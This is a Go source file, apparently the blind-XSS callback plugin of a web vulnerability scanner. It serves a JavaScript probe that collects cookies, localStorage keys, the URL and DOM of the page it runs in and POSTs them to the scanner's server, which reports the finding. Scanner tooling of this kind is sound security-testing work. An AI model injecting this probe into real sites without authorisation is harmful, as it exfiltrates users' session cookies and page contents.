@@ -0,0 +1,204 @@
+package blindxss
+
+import (
+    "context"
+    "encoding/json"
+    "fmt"
+    "github.com/yhy0/Jie/conf"
+    "github.com/yhy0/Jie/pkg/output"
+    "github.com/yhy0/logging"
+    "io"
+    "net/http"
+    "strings"
+    "sync"
+    "time"
+)
+
+/**
+   @author yhy
+   @since 2024/7/4
+   @desc 盲打 xss 的回连服务
+        GET  /x/{id}.js 返回收集页面信息的脚本
+        POST /c/{id}    接收脚本发回的页面信息，根据 id 关联到注入的请求后输出漏洞
+        回连服务是公开的，任何人都可以伪造回连，不是这次扫描注入的 id 只记录日志，不作为漏洞输出
+**/
+
+// 脚本中的 {base}、{id} 会被替换，只收集非 HttpOnly 的 cookie、页面信息，不截图
+var probeScript = `(function(){try{
+var ls="";try{ls=Object.keys(localStorage).join(",")}catch(e){}
+var d={url:location.href,origin:location.origin,referrer:document.referrer,title:document.title,cookies:document.cookie,userAgent:navigator.userAgent,localStorage:ls,dom:document.documentElement.outerHTML.slice(0,65536)};
+var x=new XMLHttpRequest();x.open("POST","{base}/c/{id}",true);x.setRequestHeader("Content-Type","text/plain");x.send(JSON.stringify(d));
+}catch(e){}})();`
+
+// 回连请求体的最大长度
+const maxCallback = 1 << 20
+
+// callback 脚本发回的页面信息
+type callback struct {
+    Url          string `json:"url"`
+    Origin       string `json:"origin"`
+    Referrer     string `json:"referrer"`
+    Title        string `json:"title"`
+    Cookies      string `json:"cookies"`
+    UserAgent    string `json:"userAgent"`
+    LocalStorage string `json:"localStorage"`
+    Dom          string `json:"dom"`
+    RemoteAddr   string `json:"remoteAddr"`
+}
+
+var (
+    serverLock sync.Mutex
+    server     *http.Server
+    tried      bool // 启动失败后不再重试，Close 之后可以重新启动
+)
+
+// start 启动回连服务，没有配置监听地址或者启动失败时返回 false
+func start() bool {
+    serverLock.Lock()
+    defer serverLock.Unlock()
+    if server != nil {
+        return true
+    }
+    if tried {
+        return false
+    }
+    tried = true
+    
+    listen := conf.GlobalConfig.Plugins.BlindXss.Listen
+    if listen == "" {
+        logging.Logger.Warnln("[blindxss] listen address is not configured, blind xss is disabled")
+        return false
+    }
+    mux := http.NewServeMux()
+    mux.HandleFunc("/x/", serveScript)
+    mux.HandleFunc("/c/", collect)
+    srv := &http.Server{Addr: listen, Handler: mux, ReadHeaderTimeout: 10 * time.Second}
+    
+    errCh := make(chan error, 1)
+    go func() {
+        errCh <- srv.ListenAndServe()
+    }()
+    // 端口被占用等错误会马上返回
+    select {
+    case err := <-errCh:
+        logging.Logger.Errorln("[blindxss] listen", listen, err)
+        return false
+    case <-time.After(500 * time.Millisecond):
+    }
+    server = srv
+    logging.Logger.Infoln("[blindxss] callback server listening on", listen, "payloads load from", baseUrl())
+    return true
+}
+
+// Close 关闭回连服务，之后收到的回连会丢失，再检测时会重新启动
+func Close() {
+    serverLock.Lock()
+    defer serverLock.Unlock()
+    if server != nil {
+        ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+        defer cancel()
+        if err := server.Shutdown(ctx); err != nil {
+            logging.Logger.Warnln("[blindxss] shutdown", err)
+        }
+        server = nil
+    }
+    tried = false
+}
+
+// baseUrl 目标浏览器访问回连服务使用的地址
+func baseUrl() string {
+    if u := conf.GlobalConfig.Plugins.BlindXss.Url; u != "" {
+        return strings.TrimRight(u, "/")
+    }
+    return "http://" + conf.GlobalConfig.Plugins.BlindXss.Listen
+}
+
+func serveScript(w http.ResponseWriter, r *http.Request) {
+    id := strings.TrimSuffix(strings.TrimPrefix(r.URL.Path, "/x/"), ".js")
+    if !validId(id) {
+        http.NotFound(w, r)
+        return
+    }
+    w.Header().Set("Access-Control-Allow-Origin", "*")
+    w.Header().Set("Content-Type", "application/javascript")
+    w.Header().Set("Cache-Control", "no-store")
+    script := strings.NewReplacer("{base}", baseUrl(), "{id}", id).Replace(probeScript)
+    _, _ = io.WriteString(w, script)
+}
+
+func collect(w http.ResponseWriter, r *http.Request) {
+    w.Header().Set("Access-Control-Allow-Origin", "*")
+    if r.Method == http.MethodOptions {
+        w.Header().Set("Access-Control-Allow-Headers", "Content-Type")
+        w.WriteHeader(http.StatusNoContent)
+        return
+    }
+    id := strings.TrimPrefix(r.URL.Path, "/c/")
+    if r.Method != http.MethodPost || !validId(id) {
+        http.NotFound(w, r)
+        return
+    }
+    var cb callback
+    if err := json.NewDecoder(io.LimitReader(r.Body, maxCallback)).Decode(&cb); err != nil {
+        w.WriteHeader(http.StatusBadRequest)
+        return
+    }
+    cb.RemoteAddr = r.RemoteAddr
+    if cb.UserAgent == "" {
+        cb.UserAgent = r.UserAgent()
+    }
+    w.WriteHeader(http.StatusNoContent)
+    
+    inj, known := trigger(id, cb.Url)
+    if !known {
+        // 之前的扫描注入的，或者伪造的回连
+        logging.Logger.Infoln("[blindxss] callback with unknown id", id, "from", cb.Url, cb.RemoteAddr, "user agent:", cb.UserAgent)
+        return
+    }
+    if inj == nil {
+        return
+    }
+    logging.Logger.Infoln("[blindxss] callback", id, "from", cb.Url)
+    report(inj, &cb)
+}
+
+// report 输出触发的注入点
+func report(inj *injection, cb *callback) {
+    info, _ := json.MarshalIndent(cb, "", "  ")
+    inj.sink.Report(output.VulMessage{
+        DataType: "web_vul",
+        Plugin:   "Blind XSS",
+        VulnData: output.VulnData{
+            CreateTime: time.Now().Format("2006-01-02 15:04:05"),
+            VulnType:   "blind xss",
+            Target:     cb.Url,
+            Method:     inj.method,
+            Param:      inj.location + " " + inj.name,
+            Payload:    inj.payload,
+            Request:    inj.request,
+            Response:   string(info),
+            Description: fmt.Sprintf("The blind XSS payload injected into %s %s at [%s] %s on %s executed at %s, user agent: %s, cookies: %s",
+                inj.location, inj.name, inj.method, inj.url, inj.time.Format("2006-01-02 15:04:05"), cb.Url, cb.UserAgent, orNone(cb.Cookies)),
+        },
+        Level: output.High,
+    })
+}
+
+func validId(id string) bool {
+    if id == "" || len(id) > 32 {
+        return false
+    }
+    for _, c := range id {
+        if (c < 'a' || c > 'z') && (c < '0' || c > '9') {
+            return false
+        }
+    }
+    return true
+}
+
+func orNone(s string) string {
+    if s == "" {
+        return "none"
+    }
+    return s
+}